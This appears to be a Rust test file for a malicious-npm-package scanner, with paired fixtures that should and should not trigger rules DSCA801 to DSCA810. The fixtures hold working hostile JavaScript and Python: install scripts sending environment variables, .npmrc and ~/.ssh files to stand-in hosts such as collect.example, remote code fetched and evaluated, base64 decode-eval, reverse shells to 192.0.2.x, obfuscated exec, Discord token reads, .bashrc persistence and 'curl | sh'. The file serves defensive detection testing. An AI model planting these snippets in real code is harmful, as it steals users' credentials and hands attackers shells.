//! One fixture that triggers each code rule and one that must not, with a snapshot of
//! what the rule reports. The fixtures act like malware against reserved names
//! (`*.example`, `*.invalid`) and documentation addresses (192.0.2.0/24, 198.51.100.0/24).

mod common;

use common::Fixture;
use dsca_model::Severity;
use insta::assert_yaml_snapshot;
use serde_json::json;

/// A package whose postinstall runs `node install.js`, holding `install.js`.
fn installs(code: &str) -> Fixture {
    Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "scripts": {"postinstall": "node install.js"}}))
    .file("install.js", code.as_bytes())
}

/// A package with `lib/util.js` that nothing visibly runs.
fn library(code: &str) -> Fixture {
    Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}))
        .file("index.js", b"module.exports = 1;\n")
        .file("lib/util.js", code.as_bytes())
}

// DSCA801 exfiltration

#[test]
fn dsca801_environment_posted_at_install_time() {
    let fixture = installs(
        r#"const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: 'collect.example', method: 'POST', path: '/' });
req.write(data);
req.end();
"#,
    );
    let findings = fixture.code_findings("DSCA801");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca801_reads_secrets_in_one_module_and_sends_from_another() {
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "scripts": {"preinstall": "node lib/run.js"}}))
    .file(
        "lib/run.js",
        b"const steal = require('./steal');\nconst axios = require('axios');\naxios.post('https://drop.example/x', steal());\n",
    )
    .file(
        "lib/steal.js",
        b"const fs = require('fs'), os = require('os'), path = require('path');\nmodule.exports = () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n",
    );
    let findings = fixture.code_findings("DSCA801");
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca801_config_from_environment_is_not_exfiltration() {
    let fixture = installs(
        "const https = require('https');\nconst home = process.env.HOME;\nhttps.get('https://api.example/v1/versions', res => res.resume());\n",
    );
    assert!(fixture.code_findings("DSCA801").is_empty());
}

// DSCA802 download-execute

#[test]
fn dsca802_response_evaluated() {
    let fixture = library(
        r#"var http = require('http');
http.get({ host: '198.51.100.7', path: '/update.json' }, function (response) {
  var body = '';
  response.on('data', function (d) { body += d; });
  response.on('end', function () { eval(body); });
});
"#,
    );
    let findings = fixture.code_findings("DSCA802");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca802_function_reached_through_a_computed_global() {
    let fixture = library(
        r#"require('http').get('http://198.51.100.7/u', function (r) {
  var body = '';
  r.on('data', function (d) { body += d; });
  r.on('end', function () { var F = this['Func' + 'tion'.slice(0)]; new F(body)(); });
});
"#,
    );
    assert_eq!(fixture.code_findings("DSCA802").len(), 1);
}

#[test]
fn dsca802_download_parsed_as_data_is_fine() {
    let fixture = library(
        r#"const https = require('https');
https.get('https://api.example/data.json', res => {
  let body = '';
  res.on('data', d => (body += d));
  res.on('end', () => console.log(JSON.parse(body)));
});
const globalObject = Function('return this')();
"#,
    );
    assert!(fixture.code_findings("DSCA802").is_empty());
}

// DSCA803 decode-eval

#[test]
fn dsca803_base64_evaluated() {
    let fixture = library("eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n");
    let findings = fixture.code_findings("DSCA803");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca803_hidden_vm_evaluating_decoded_bytes_is_critical() {
    let fixture = library(
        r#"module.exports = function (v) {
  var log = Buffer.from(v, 'hex');
  var c = log.toString();
  require('\x76\x6d')['runInThisContext'](c);
};
"#,
    );
    let findings = fixture.code_findings("DSCA803");
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca803_decoding_next_to_a_template_compiler_is_fine() {
    let fixture = library(
        "const bytes = Buffer.from(input, 'base64');\nconst render = new Function('data', source);\n",
    );
    assert!(fixture.code_findings("DSCA803").is_empty());
}

// DSCA804 reverse-shell

#[test]
fn dsca804_socket_piped_to_a_shell() {
    let fixture = library(
        r#"const net = require('net'), cp = require('child_process');
const client = net.connect(4444, '192.0.2.10', () => {
  const sh = cp.spawn('/bin/sh', []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});
"#,
    );
    let findings = fixture.code_findings("DSCA804");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca804_server_running_git_is_fine() {
    let fixture = library(
        "const net = require('net'), cp = require('child_process');\nnet.createServer(s => s.pipe(s)).listen(0);\ncp.spawn('git', ['status']);\n",
    );
    assert!(fixture.code_findings("DSCA804").is_empty());
}

// DSCA805 obfuscated-code

fn obfuscator_output() -> String {
    let mut code = String::from("var _0x4f2a=['log','child_process','exec','whoami'];");
    code.push_str("(function(_0x1b7c,_0x3d9e){var _0x5a1f=function(_0x2c8b){while(--_0x2c8b){_0x1b7c['push'](_0x1b7c['shift']());}};_0x5a1f(++_0x3d9e);}(_0x4f2a,0x1f3));");
    code.push_str("var _0x2e1d=function(_0x4b3a,_0x1e9c){_0x4b3a=_0x4b3a-0x0;var _0x3f7b=_0x4f2a[_0x4b3a];return _0x3f7b;};");
    for i in 0..20 {
        code.push_str(&format!(
            "var _0x{:04x}=require(_0x2e1d('0x1'));_0x{:04x}[_0x2e1d('0x2')](_0x2e1d('0x3'));",
            0x6a00 + i,
            0x6a00 + i
        ));
    }
    code
}

#[test]
fn dsca805_javascript_obfuscator_output_at_install_time() {
    let fixture = installs(&obfuscator_output());
    let findings = fixture.code_findings("DSCA805");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca805_module_name_in_escapes() {
    let fixture = library("const cp = require('\\x63hild_\\x70rocess');\ncp.exec('id');\n");
    let findings = fixture.code_findings("DSCA805");
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca805_minified_code_is_not_obfuscated() {
    let fixture = library(
        "!function(e,t){\"object\"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var e=require(\"fs\"),t=function(n,r){return n+r};return{a:t,b:e.readFileSync}});\n",
    );
    assert!(fixture.code_findings("DSCA805").is_empty());
}

// DSCA806 suspicious-destination

#[test]
fn dsca806_collaborator_domain_in_network_code() {
    let fixture = library("fetch('https://c2x9.oast.fun/ping?h=' + require('os').hostname());\n");
    let findings = fixture.code_findings("DSCA806");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca806_ordinary_api_is_fine() {
    let fixture = library("fetch('https://api.example/repos').then(r => r.json());\n");
    assert!(fixture.code_findings("DSCA806").is_empty());
}

// DSCA807 sensitive-file-access

#[test]
fn dsca807_discord_token_store_read() {
    let fixture = library(
        "const fs = require('fs'), path = require('path');\nconst dir = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');\nfor (const f of fs.readdirSync(dir)) fs.readFileSync(path.join(dir, f));\n",
    );
    let findings = fixture.code_findings("DSCA807");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca807_reading_own_files_is_fine() {
    let fixture = library(
        "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync(__dirname + '/../package.json', 'utf8'));\n",
    );
    assert!(fixture.code_findings("DSCA807").is_empty());
}

// DSCA808 persistence

#[test]
fn dsca808_shell_rc_appended_at_install_time() {
    let fixture = installs(
        "const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nnode /tmp/.cache/agent.js &\\n');\n",
    );
    let findings = fixture.code_findings("DSCA808");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::High);
}

#[test]
fn dsca808_writing_build_output_is_fine() {
    let fixture = installs("require('fs').writeFileSync('./dist/out.js', 'module.exports = 1');\n");
    assert!(fixture.code_findings("DSCA808").is_empty());
}

// DSCA809 risky-command-in-code

#[test]
fn dsca809_download_piped_to_shell_from_code() {
    let fixture = installs(
        "const { exec: run } = require('child_' + 'process');\nrun('curl -s https://x.example/a.sh | sh');\n",
    );
    let findings = fixture.code_findings("DSCA809");
    assert_yaml_snapshot!(findings);
    assert!(findings[0].severity >= Severity::High);
}

#[test]
fn dsca809_python_reverse_shell_script() {
    let fixture = library("").file(
        "tools/shell.py",
        b"import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.5',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n",
    );
    assert_eq!(
        fixture.code_findings("DSCA809")[0].severity,
        Severity::Critical
    );
}

#[test]
fn dsca809_plain_git_command_is_fine() {
    let fixture = installs("require('child_process').execSync('git rev-parse HEAD');\n");
    assert!(fixture.code_findings("DSCA809").is_empty());
}

// DSCA810 unanalysed-code

#[test]
fn dsca810_unparsable_javascript_is_reported_and_still_read() {
    let fixture = library("function (((( {\n require('child_process').exec('id')\n");
    let analysis = fixture.analyse_code();
    let findings: Vec<_> = analysis
        .findings
        .iter()
        .filter(|f| f.rule == "DSCA810")
        .cloned()
        .collect();
    assert_yaml_snapshot!(findings);
    assert!(
        analysis
            .behaviours
            .iter()
            .any(|b| b.id == "execution.child-process"),
        "the byte-level pass still sees what the file does"
    );
}

#[test]
fn dsca810_valid_code_is_not_reported() {
    assert!(
        library("export const a = 1;\n")
            .code_findings("DSCA810")
            .is_empty()
    );
}

// Behaviours and name resolution

#[test]
fn behaviours_follow_aliases_and_folding() {
    let fixture = library(
        r#"const { exec: run } = require('child_' + 'process');
const g = global['ev' + 'al'];
const os = require(`o${'s'}`);
run('id');
g(process.argv[2]);
os.userInfo();
const m = process.mainModule.require('ht' + 'tps');
m.get('https://a.example');
import(process.argv[3]);
String.fromCharCode(104, 105);
"#,
    );
    let behaviours = fixture.analyse_code().behaviours;
    let ids: Vec<&str> = behaviours.iter().map(|b| b.id.as_str()).collect();
    for expected in [
        "execution.child-process",
        "execution.eval",
        "recon.host",
        "network.http",
        "execution.dynamic-import",
        "obfuscation.decode",
    ] {
        assert!(ids.contains(&expected), "{expected} missing from {ids:?}");
    }
}

#[test]
fn environment_reads_are_found_through_every_shape_of_process_env() {
    // Each file reaches `process.env` another way; the walk only resolves member objects
    // that can be it, so every shape must still count as a read of a secret.
    let shapes = [
        "const a = process.env.NPM_TOKEN;",
        "const b = global.process.env.NPM_TOKEN;",
        "const c = process['env'].NPM_TOKEN;",
        "const d = (0, process.env).NPM_TOKEN;",
        "const e = process.env; const f = e.NPM_TOKEN;",
        "import { env } from 'process'; const g = env.NPM_TOKEN;",
        "const h = require('process').env.NPM_TOKEN;",
    ];
    for shape in shapes {
        let behaviours = library(shape).analyse_code().behaviours;
        assert!(
            behaviours
                .iter()
                .any(|b| b.id == "recon.environment-secrets"),
            "`{shape}`: no secret read in {behaviours:?}"
        );
    }
    for not_env in [
        "const i = this.env.NPM_TOKEN;",
        "const j = config().env.NPM_TOKEN;",
    ] {
        let behaviours = library(not_env).analyse_code().behaviours;
        assert!(
            !behaviours
                .iter()
                .any(|b| b.id.starts_with("recon.environment")),
            "`{not_env}`: {behaviours:?}"
        );
    }
}

#[test]
fn dsca801_the_ssh_folder_listed_and_sent_at_install_is_critical() {
    let install = r#"const fs = require('fs'), path = require('path'), os = require('os');
const dir = path.join(os.homedir(), '.ssh');
const out = {};
for (const f of fs.readdirSync(dir)) { try { out[f] = fs.readFileSync(path.join(dir, f), 'utf8'); } catch (e) {} }
require('https').request({ hostname: 'api.stats.example', path: '/v2', method: 'PUT' }).end(JSON.stringify(out));
"#;
    let fixture = Fixture::with_postinstall("node run.js", &[("run.js", install)]);
    let worst = fixture
        .code_findings("DSCA801")
        .iter()
        .map(|f| f.severity)
        .max();
    assert_eq!(worst, Some(Severity::Critical));
    // An SSH client reading its config to resolve a host alias, then connecting.
    let client = r#"const fs = require('fs'), path = require('path'), os = require('os');
const config = fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'), 'utf8');
require('net').connect(22, 'git.example');
module.exports = config;
"#;
    let fixture = Fixture::with_postinstall("node run.js", &[("run.js", client)]);
    assert!(fixture.code_findings("DSCA801").is_empty());
}
